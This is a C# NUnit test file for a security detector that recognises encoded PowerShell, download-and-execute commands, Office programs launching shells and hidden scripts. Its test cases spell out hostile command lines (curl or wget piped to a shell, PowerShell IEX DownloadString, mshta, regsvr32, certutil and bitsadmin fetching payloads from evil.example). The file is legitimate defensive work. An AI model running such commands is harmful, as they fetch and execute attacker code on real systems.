using System.Text;
using Msticnb.AzureSentinel.Processes;
using NUnit.Framework;

namespace Msticnb.Tests.Plugins.AzureSentinel.Processes;

public sealed class CommandLinesTests
{
    private static string Encode(string script) => Convert.ToBase64String(Encoding.Unicode.GetBytes(script));

    [TestCase("powershell.exe -enc {0}")]
    [TestCase("powershell -NoP -NonI -W Hidden -EncodedCommand {0}")]
    [TestCase("\"C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe\" -e {0}")]
    [TestCase("cmd.exe /c powershell.exe -ec {0}")]
    [TestCase("pwsh /EncodedCommand \"{0}\"")]
    [TestCase("powershell.exe \u2013enc {0}")]
    public void An_encoded_script_is_seen_in_every_spelling_and_decoded(string commandLine)
    {
        var text = string.Format(System.Globalization.CultureInfo.InvariantCulture, commandLine, Encode("Write-Output 'hello'"));

        Assert.That(CommandLines.IsEncodedPowerShell(text));
        Assert.That(CommandLines.DecodePowerShell(text), Is.EqualTo("Write-Output 'hello'"));
    }

    [Test]
    public void A_script_that_was_encoded_from_plain_bytes_is_read_as_well() => Assert.That(
        CommandLines.DecodePowerShell("powershell -enc " + Convert.ToBase64String("Invoke-Expression 'calc'"u8)),
        Is.EqualTo("Invoke-Expression 'calc'"));

    [TestCase(@"powershell.exe -ExecutionPolicy Bypass -File C:\Scripts\Inventory.ps1")]
    [TestCase(@"powershell.exe -Command Get-Service -Exclude AAAAAAAAAAAAAAAAAAAAAAAA")]
    [TestCase(@"powershell.exe -encoding utf8 C:\Scripts\AAAAAAAAAAAAAAAAAAAAAAAAAAAAAA.ps1")]
    [TestCase("setup.exe -e QUJDREVGR0hJSktMTU5PUFFSU1RVVldYWVo=")]
    [TestCase("")]
    public void An_ordinary_command_is_not_an_encoded_script(string commandLine)
    {
        Assert.That(CommandLines.IsEncodedPowerShell(commandLine), Is.False);
        Assert.That(CommandLines.DecodePowerShell(commandLine), Is.Null);
    }

    [TestCase("curl -fsSL http://203.0.113.9/i.sh | bash")]
    [TestCase("wget -q -O- http://evil.example/x | sudo /bin/sh")]
    [TestCase("bash -c \"$(curl -fsSL http://evil.example/x)\"")]
    [TestCase("powershell -c IEX (New-Object Net.WebClient).DownloadString('http://evil.example/a')")]
    [TestCase("powershell iwr http://evil.example/a | iex")]
    [TestCase("mshta http://evil.example/a.hta")]
    [TestCase("regsvr32 /s /n /u /i:http://evil.example/a.sct scrobj.dll")]
    [TestCase("certutil.exe -urlcache -split -f http://evil.example/a.exe a.exe")]
    [TestCase("bitsadmin /transfer job http://evil.example/a.exe c:\\a.exe")]
    public void Fetching_and_running_is_seen(string commandLine) => Assert.That(CommandLines.DownloadsAndRuns(commandLine));

    [TestCase("curl -s http://127.0.0.1/health > /dev/null")]
    [TestCase("curl -s https://updates.example/list | grep version")]
    [TestCase("wget https://updates.example/list; sh /opt/app/run.sh")]
    [TestCase("certutil -hashfile a.exe SHA256")]
    [TestCase("powershell Invoke-WebRequest https://updates.example/a.zip -OutFile a.zip")]
    [TestCase("mshta C:\\Program Files\\App\\help.hta")]
    public void Fetching_alone_is_not_running(string commandLine) => Assert.That(CommandLines.DownloadsAndRuns(commandLine), Is.False);

    [TestCase(@"C:\Program Files\Microsoft Office\root\Office16\WINWORD.EXE", @"C:\Windows\System32\cmd.exe", true)]
    [TestCase(@"C:\Program Files\Microsoft Office\root\Office16\EXCEL.EXE", @"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe", true)]
    [TestCase(@"C:\Program Files\Microsoft Office\root\Office16\WINWORD.EXE", @"C:\Windows\splwow64.exe", false)]
    [TestCase(@"C:\Windows\explorer.exe", @"C:\Windows\System32\cmd.exe", false)]
    [TestCase("", "", false)]
    public void A_document_program_that_starts_a_shell_is_seen(string parent, string child, bool expected) =>
        Assert.That(CommandLines.IsOfficeStartingShell(parent, child), Is.EqualTo(expected));

    [TestCase(@"powershell.exe -w hidden -ep bypass -f C:\Scripts\a.ps1", true)]
    [TestCase(@"wscript.exe C:\Users\ann\AppData\Roaming\a.vbs", true)]
    [TestCase(@"powershell.exe -File C:\Scripts\a.ps1", false)]
    [TestCase(@"C:\Program Files\App\app.exe -w hidden", false)]
    public void A_script_that_hides_is_seen(string commandLine, bool expected) =>
        Assert.That(CommandLines.HidesScript(commandLine), Is.EqualTo(expected));

    [Test]
    public void A_hostile_command_line_does_not_keep_the_patterns_busy()
    {
        var text = "powershell " + string.Concat(Enumerable.Repeat("-e ", 20_000)) + new string('A', 20_000) + "|curl wget curl ";

        Assert.That(() => (CommandLines.IsEncodedPowerShell(text), CommandLines.DownloadsAndRuns(text), CommandLines.HidesScript(text)), Throws.Nothing);
    }
}
